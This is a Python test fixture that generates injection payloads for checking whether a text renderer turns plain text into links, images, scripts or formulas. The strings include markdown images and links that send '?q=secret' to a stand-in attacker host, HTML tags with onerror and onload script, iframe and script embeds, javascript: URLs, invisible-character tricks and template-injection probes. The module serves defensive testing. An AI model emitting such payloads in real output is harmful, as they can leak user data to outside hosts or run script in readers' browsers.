"""Texts that try to become a link, a picture, an icon, a formula or a script (PROMISES I01, I06)."""

from __future__ import annotations

EVIL = "evil.example"
_SCHEMES = ["http://", "https://", "HTTPS://", "//", "ftp://", "data:text/html,", "javascript:alert(1)//", "vbscript:"]
_ADDRESSES = [f"{scheme}{EVIL}/x?q=secret" for scheme in _SCHEMES]

_SHAPES = [
    "{0}",
    "<{0}>",
    "[click]({0})",
    "[click]({0} 'title')",
    "[click](<{0}>)",
    "![picture]({0})",
    "![picture][ref]\n\n[ref]: {0}",
    '[click][ref]\n\n[ref]: {0} "t"',
    "[![picture]({0})]({0})",
    "text[^1]\n\n[^1]: {0}",
    "| a | b |\n|---|---|\n| ![p]({0}) | [l]({0}) |",
    "# heading [l]({0})",
    "- item ![p]({0})",
    "1. item [l]({0})",
    "> quote [l]({0})",
    "    ![p]({0})",
    "```\n{0}\n```\n![p]({0})",
    "`code`![p]({0})`",
    "<img src={0}>",
    "<img src='{0}' onerror=alert(1)>",
    "<a href='{0}'>l</a>",
    "<svg onload=alert(1)><image href='{0}'/></svg>",
    "<style>@import '{0}'; body{{background:url({0})}}</style>",
    "<iframe src='{0}'></iframe>",
    "<script src='{0}'></script>",
    "<object data='{0}'></object><embed src='{0}'><video src='{0}'><audio src='{0}'>",
    "<link rel=stylesheet href='{0}'><meta http-equiv=refresh content='0;url={0}'>",
    "<form action='{0}'><button>b</button></form>",
    ":red[![p]({0})] :blue-background[[l]({0})]",
    ":color[text]{{foreground={0} background={0}}}",
    "$\\href{{{0}}}{{x}}$ $$\\includegraphics{{{0}}}$$",
    "\\[click\\]({0}) \\![p]({0}) \\\\![p]({0})",
    "[click]\\({0}) [cl\nick]({0})",
    "&#91;click&#93;({0}) &lt;img src={0}&gt;",
    "\u202e[click]({0})\u202c ! \u200b[p]({0})",
]
_FIXED = [
    "www.evil.example WWW.evil.example wWw.evil.example/x",
    "someone@evil.example mailto:someone@evil.example xmpp:a@evil.example",
    ":smile: :+1: :-1: :material/home: :material_home: :streamlit: \\:smile\\: :material\\/home:",
    ":red[red] :rainbow[x] :small[x] :shimmer[x] :help[x] :primary-badge[x] :gray[]",
    "a -> b <- c <-> d -- e >= f <= g ~= h",
    "# one\n## two\n- a\n* b\n+ c\n1. d\n2) e\n> f\n***\n---\n===\n\tcode\n~~strike~~ **bold** _it_ ==x==",
    "$x^2$ $$y$$ \\(z\\) costs $5 and $6",
    "- [ ] task\n- [x] done",
    "```mermaid\ngraph TD; A-->B\n```",
    "xn--evil-9za.example http://xn--80ak6aa92e.com",
    "h\u200bttp://evil.example ht\u00adtp://evil.example",
    "\u0000\u0007\u001b[31mred\u001b[0m\u2028line\u2029line",
    "{0} {name} %s {{7*7}} ${7*7} #{7*7}",
]
PAYLOADS = [shape.format(address) for address in _ADDRESSES for shape in _SHAPES] + _FIXED
